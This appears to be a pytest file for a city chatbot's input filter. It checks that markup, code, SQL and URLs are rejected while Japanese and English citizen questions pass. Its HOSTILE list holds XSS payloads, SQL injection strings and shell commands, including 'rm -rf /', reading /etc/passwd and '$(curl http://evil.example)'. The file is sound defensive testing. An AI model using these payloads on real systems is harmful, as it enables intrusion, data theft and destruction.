"""Markup, code, SQL, URLs, mashing and bare numbers or symbols are no question; no citizen's sentence is caught."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.core.nlu_examples import examples_by_intent
from bot.core.not_a_question import is_not_a_question

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    "<script>alert(1)</script>",
    "＜ｓｃｒｉｐｔ＞alert(1)＜/ｓｃｒｉｐｔ＞",
    "<img src=x onerror=alert(1)>",
    "<b>開館時間</b>",
    "<div>こんにちは</div>",
    "<?xml version='1.0'?><a/>",
    "<!-- comment -->",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;",
    "<a href='http://evil.example'>click</a>",
    "SELECT * FROM users",
    "select name from facilities where id=1",
    "DROP TABLE users;",
    "'; DROP TABLE handoff_requests; --",
    "' OR 1=1 --",
    "admin' OR '1'='1",
    "1 UNION SELECT password FROM users",
    "INSERT INTO users VALUES (1, 'x')",
    "DELETE FROM facilities",
    "UPDATE users SET role='admin'",
    "function f() { return 1; }",
    "def hello(): print('hi')",
    "import os",
    "from os import system",
    "console.log('開館時間')",
    "var x = 1;",
    "const f = () => 1",
    "x = 1; y = 2; z = x + y;",
    "if (a == b) { c(); }",
    "cat /etc/passwd | grep root",
    "ls -la | sh",
    "rm -rf /",
    "sudo reboot",
    "$(curl http://evil.example)",
    "echo hi && whoami",
    "#include <stdio.h>",
    'printf("%s", x);',
    "https://example.com/path?q=1",
    "http://www.city.kanazawa.lg.jp/",
    "www.example.jp",
    "example.com",
    "/faq",
    '/faq{"x":1}',
    "/restart",
    "asdfghjkl",
    "qwertyuiop",
    "aaaaaaa",
    "jjjjjjjjjjjj",
    "xkcdqzvbnm",
    "sdfkjhsdf lkjlkj qwert",
    "ｗｗｗｗｗｗｗ",
    "1234567890",
    "!!!???",
    "？？？",
    "...",
    "12345678901234",
    "@@@###$$$",
    "3.14159265358979",
]

CITIZEN = [
    "076-225-7763に電話すればいいですか",
    "19:00まで？",
    "10人です",
    "5",
    "10",
    "076-225-7763",
    "0762257763",
    "(076)220-2026",
    "076(225)7763",
    "090-0000-0000",
    "+81 76-225-7763",
    "5/3",
    "12/29",
    "2024/5/3",
    "19:00",
    "2024年5月3日は開いていますか",
    "12月29日から1月3日までは休みですか",
    "明日の10時から使えますか",
    "5月3日（月）は開館していますか",
    "午後10時まで開いていますか",
    "1000文字まで書けますか",
    "会員は5名以上いますか",
    "交流館の電話番号は？",
    "協働（きょうどう）とは何ですか",
    "サポセンの住所を教えて",
    "ＦＡＸ番号はありますか",
    "ｻﾎﾟｰﾄｾﾝﾀｰは何時まで？",
    "Wi-Fiは使えますか",
    "NPO法人でも登録できますか",
    "PCを借りられますか",
    "name@example.jp",
    "kyoudou@city.kanazawa.lg.jp に送ればいいですか",
    "What time does the center close?",
    "Is the community hall open on Monday?",
    "Can I register my group?",
    "Thank you very much!",
    "hello",
    "kaikan wa nanji made desu ka",
    "kyou wa aite imasu ka",
    "sapo-to senta- no denwa bangou",
    "rhythm and strengths",
    "property and liberty",
    "はい",
    "いいえ",
    "スキップ",
    "連絡先は伝えない",
    "ありがとう！！",
    "えっ？",
    "",
    "   ",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_is_not_a_question(text):
    assert is_not_a_question(text) is True


@pytest.mark.parametrize("text", CITIZEN)
def test_citizen_message_is_a_question(text):
    assert is_not_a_question(text) is False


def test_the_tables_are_large_enough():
    assert len(HOSTILE) >= 40 and len(CITIZEN) >= 40


def test_no_training_or_test_example_is_caught():
    hits, total = [], 0
    for nlu_dir in (ROOT / "data" / "nlu", ROOT / "tests" / "nlu"):
        for intent, examples in examples_by_intent(nlu_dir).items():
            total += len(examples)
            if intent != "out_of_scope":
                hits += [f"{nlu_dir.name}/{intent}: {e}" for e in examples if is_not_a_question(e)]
    assert total > 1000
    assert hits == []
